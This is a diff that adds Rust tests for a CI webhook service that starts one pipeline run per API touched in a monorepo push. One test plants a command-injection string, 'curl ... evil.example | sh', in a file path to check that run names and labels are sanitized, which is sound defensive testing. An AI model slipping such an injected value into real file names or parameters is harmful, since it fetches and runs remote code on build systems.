@@ -1784,3 +1784,295 @@ async fn counters_tell_what_happened() {
         2.0
     );
 }
+
+// ---------------------------------------------------------------------------------------------
+// monorepo fan-out: one run per API a push touches
+
+/// The seed's monorepo: one rule for every API under `apis/<group>/<api>/`.
+const MONOREPO: &str = r#"
+namespace: ci
+providers:
+  github: { secret: "env:GITHUB_SECRET" }
+repositories:
+  - name: api
+    url: https://github.com/danheberden/payloads
+    branches: [master]
+    paths: ["apis/{group}/{api}/**"]
+    pipeline: build-api
+    concurrency: supersede
+    params:
+      apicontext: "apis/{{ paths.group }}/{{ paths.api }}/"
+      image: "registry.example.com/{{ paths.api }}:{{ sha }}"
+    workspaces:
+      source: { claim: shared-workspace, archive: true }
+"#;
+
+/// The corpus push with its commits' file lists replaced by `commits` (added, modified,
+/// removed), delivered as `delivery`, with `forced` as given.
+fn monorepo_push(delivery: &str, commits: &[[&[&str]; 3]], forced: bool) -> Delivery {
+    let mut body: Value =
+        serde_json::from_slice(&corpus("github/push-3-commits.gith-2012.json")).unwrap();
+    let template = body["commits"][0].clone();
+    body["commits"] = commits
+        .iter()
+        .map(|[added, modified, removed]| {
+            let mut commit = template.clone();
+            commit["added"] = json!(added);
+            commit["modified"] = json!(modified);
+            commit["removed"] = json!(removed);
+            commit
+        })
+        .collect();
+    body["forced"] = json!(forced);
+    Delivery::github("push", delivery, serde_json::to_vec(&body).unwrap()).signed()
+}
+
+const THREE_APIS: &[[&[&str]; 3]] = &[
+    [&["apis/async/launcher/pom.xml"], &[], &[]],
+    [
+        &[],
+        &[
+            "apis/async/launcher/src/App.java",
+            "apis/sync/gateway/pom.xml",
+        ],
+        &[],
+    ],
+    [&[], &[], &["apis/sync/billing/README.md", "docs/index.md"]],
+];
+
+fn by_api(runs: &[Value]) -> BTreeMap<String, Value> {
+    runs.iter()
+        .map(|run| {
+            let paths: Value = serde_json::from_str(
+                run["metadata"]["annotations"]["tekflux.dev/paths"]
+                    .as_str()
+                    .unwrap(),
+            )
+            .unwrap();
+            (paths["api"].as_str().unwrap().to_owned(), run.clone())
+        })
+        .collect()
+}
+
+#[tokio::test]
+async fn a_push_touching_three_apis_starts_one_run_per_api_with_its_params() {
+    let harness = Harness::new(MONOREPO).await;
+    let delivery = monorepo_push("7d1e0c1a-0000-4000-8000-000000000001", THREE_APIS, false);
+    let answer = harness.send(delivery.request()).await;
+    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
+    let runs = by_api(&harness.pipeline_runs());
+    assert_eq!(
+        runs.keys().collect::<Vec<_>>(),
+        ["billing", "gateway", "launcher"]
+    );
+    let sha = answer.body["pushes"][0]["sha"].as_str().unwrap().to_owned();
+    for (api, group) in [
+        ("billing", "sync"),
+        ("gateway", "sync"),
+        ("launcher", "async"),
+    ] {
+        let run = &runs[api];
+        assert_eq!(
+            params(run),
+            strings(&[
+                ("apicontext", &format!("apis/{group}/{api}/")),
+                ("image", &format!("registry.example.com/{api}:{sha}")),
+            ])
+        );
+        let name = run["metadata"]["name"].as_str().unwrap();
+        assert!(name.starts_with(&format!("api-{group}-{api}-")), "{name}");
+        // Each run works in its own directory of the claim.
+        assert_eq!(run["spec"]["workspaces"][0]["subPath"], name);
+    }
+    // The answer lists each run with its values.
+    let answered: Vec<&Value> = answer.body["runs"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|run| &run["paths"]["api"])
+        .collect();
+    assert_eq!(
+        answered,
+        [&json!("billing"), &json!("gateway"), &json!("launcher")]
+    );
+
+    // Redelivered, alone and twenty times at once: no new run.
+    let again = harness.send(delivery.request()).await;
+    assert_eq!(again.body, answer.body);
+    let mut copies = tokio::task::JoinSet::new();
+    for _ in 0..20 {
+        let app = harness.app.clone();
+        let request = delivery.request();
+        copies.spawn(async move { send(&app, request).await.status });
+    }
+    while let Some(status) = copies.join_next().await {
+        assert_eq!(status.unwrap(), StatusCode::OK);
+    }
+    assert_eq!(harness.pipeline_runs().len(), 3);
+}
+
+#[tokio::test]
+async fn a_push_touching_no_api_starts_nothing_and_says_why() {
+    let harness = Harness::new(MONOREPO).await;
+    let answer = harness
+        .send(
+            monorepo_push(
+                "7d1e0c1a-0000-4000-8000-000000000002",
+                &[[&["docs/index.md", "apis/README.md"], &[], &[]]],
+                false,
+            )
+            .request(),
+        )
+        .await;
+    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
+    assert!(harness.pipeline_runs().is_empty());
+    let reason = answer.body["ignored"][0]["reason"].as_str().unwrap();
+    assert!(reason.contains("no changed path matches"), "{reason}");
+}
+
+/// A forced push lists only the new commits: the APIs found in them run, and the answer says
+/// the list was incomplete; with none found, no run, a reason and a metric, never a guess.
+#[tokio::test]
+async fn an_incomplete_path_list_runs_what_it_names_and_says_what_it_cannot() {
+    let harness = Harness::new(MONOREPO).await;
+    let answer = harness
+        .send(
+            monorepo_push(
+                "7d1e0c1a-0000-4000-8000-000000000003",
+                &[[&["apis/async/launcher/pom.xml"], &[], &[]]],
+                true,
+            )
+            .request(),
+        )
+        .await;
+    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
+    assert_eq!(
+        by_api(&harness.pipeline_runs()).keys().collect::<Vec<_>>(),
+        ["launcher"]
+    );
+    let reason = answer.body["runs"][0]["reason"].as_str().unwrap();
+    assert!(reason.contains("incomplete"), "{reason}");
+
+    let answer = harness
+        .send(
+            monorepo_push(
+                "7d1e0c1a-0000-4000-8000-000000000004",
+                &[[&["docs/index.md"], &[], &[]]],
+                true,
+            )
+            .request(),
+        )
+        .await;
+    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
+    assert_eq!(harness.pipeline_runs().len(), 1);
+    let reason = answer.body["ignored"][0]["reason"].as_str().unwrap();
+    assert!(reason.contains("incomplete changed-path list"), "{reason}");
+    assert_eq!(ignored_total(&harness.app, "paths_incomplete").await, 1.0);
+}
+
+#[tokio::test]
+async fn hostile_captured_values_reach_params_only() {
+    let harness = Harness::new(MONOREPO).await;
+    let hostile = "a$(curl${IFS}evil.example|sh) B\u{e9}";
+    let path = format!("apis/sync/{hostile}/pom.xml");
+    let answer = harness
+        .send(
+            monorepo_push(
+                "7d1e0c1a-0000-4000-8000-000000000005",
+                &[[&[path.as_str()], &[], &[]]],
+                false,
+            )
+            .request(),
+        )
+        .await;
+    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
+    let runs = harness.pipeline_runs();
+    assert_eq!(runs.len(), 1);
+    let run = &runs[0];
+    // The test API server checks names and labels; the name keeps only safe characters.
+    let name = run["metadata"]["name"].as_str().unwrap();
+    assert!(
+        name.chars()
+            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-'),
+        "{name}"
+    );
+    assert!(name.len() <= 63);
+    assert_eq!(
+        params(run)["apicontext"],
+        format!("apis/sync/{hostile}/"),
+        "the value is passed as a param, verbatim"
+    );
+    for value in run["metadata"]["labels"].as_object().unwrap().values() {
+        assert!(!value.as_str().unwrap().contains('$'), "{value}");
+    }
+}
+
+#[tokio::test]
+async fn superseding_cancels_only_older_runs_of_the_same_api() {
+    let harness = Harness::new(MONOREPO).await;
+    let first = harness
+        .send(monorepo_push("7d1e0c1a-0000-4000-8000-000000000006", THREE_APIS, false).request())
+        .await;
+    assert_eq!(first.status, StatusCode::OK, "{}", first.body);
+    // Kubernetes timestamps have one-second resolution: the next push must be strictly later.
+    tokio::time::sleep(Duration::from_millis(1100)).await;
+    let second = harness
+        .send(
+            monorepo_push(
+                "7d1e0c1a-0000-4000-8000-000000000007",
+                &[[&[], &["apis/async/launcher/pom.xml"], &[]]],
+                false,
+            )
+            .request(),
+        )
+        .await;
+    assert_eq!(second.status, StatusCode::OK, "{}", second.body);
+    let superseded = second.body["runs"][0]["superseded"].as_array().unwrap();
+    assert_eq!(superseded.len(), 1, "{}", second.body);
+    let cancelled: Vec<String> = harness
+        .pipeline_runs()
+        .iter()
+        .filter(|run| run["spec"]["status"] == "Cancelled")
+        .map(|run| run["metadata"]["name"].as_str().unwrap().to_owned())
+        .collect();
+    assert_eq!(cancelled.len(), 1);
+    assert!(
+        cancelled[0].starts_with("api-async-launcher-"),
+        "{cancelled:?}"
+    );
+}
+
+#[test]
+fn fan_out_rules_are_checked_when_the_config_loads() {
+    let compile = |paths: &str, param: &str| {
+        let yaml = MONOREPO
+            .replace(r#"["apis/{group}/{api}/**"]"#, paths)
+            .replace(r#""apis/{{ paths.group }}/{{ paths.api }}/""#, param);
+        tekflux_git_push::RoutingTable::compile(&config(&yaml))
+            .err()
+            .map(|errors| {
+                errors
+                    .iter()
+                    .map(ToString::to_string)
+                    .collect::<Vec<_>>()
+                    .join("\n")
+            })
+    };
+    let error = compile(r#"["apis/{group}/{api}/**", "libs/{lib}/**"]"#, "x").unwrap();
+    assert!(error.contains("repositories[0].paths"), "{error}");
+    assert!(error.contains("same names"), "{error}");
+    let error = compile(r#"["apis/{group}/{api}/**", "docs/**"]"#, "x").unwrap();
+    assert!(error.contains("repositories[0].paths[1]"), "{error}");
+    let error = compile(r#"["apis/{group}/{api}/**"]"#, r#""{{ paths.service }}""#).unwrap();
+    assert!(
+        error.contains("repositories[0].params.apicontext"),
+        "{error}"
+    );
+    assert!(error.contains("capture only {group}, {api}"), "{error}");
+    let error = compile(r#"["apis/api-{api}/**"]"#, "x").unwrap();
+    assert!(error.contains("whole path segment"), "{error}");
+    // A rule that captures nothing cannot use `paths.` values. (The image param still names
+    // `paths.api`, so it is refused too.)
+    let error = compile(r#"["apis/**"]"#, "x").unwrap();
+    assert!(error.contains("capture nothing"), "{error}");
+}
